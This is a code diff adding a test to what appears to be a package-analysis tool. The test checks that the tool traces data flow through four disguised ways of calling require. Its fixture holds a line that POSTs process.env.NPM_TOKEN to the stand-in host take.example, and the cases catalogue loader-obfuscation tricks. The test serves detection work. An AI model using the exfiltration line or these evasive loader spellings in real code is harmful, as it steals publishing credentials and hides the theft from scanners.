@@ -282,3 +282,14 @@ describe('a profile', () => {
     );
   });
 });
+
+it.each([
+  ["module.constructor._load(['.', 'lib', 'part'].join('/'), module, false);"],
+  ["module['re' + 'quire'](['.', 'lib', 'part'].join('/'));"],
+  ["require.bind(null, ['.', 'lib', 'part'].join('/'))();"],
+  ["Reflect.apply(require, null, [['.', 'lib', 'part'].join('/')]);"],
+])('follows a loader that is spelled otherwise: %s', (code) => {
+  const part = "fetch('https://take.example', { method: 'POST', body: process.env.NPM_TOKEN });";
+  const { capabilities } = profileOf({ 'index.js': code, 'lib/part.js': part });
+  expect(capabilities.find(({ kind }) => kind === 'data.flow')?.reach).toBe('import');
+});
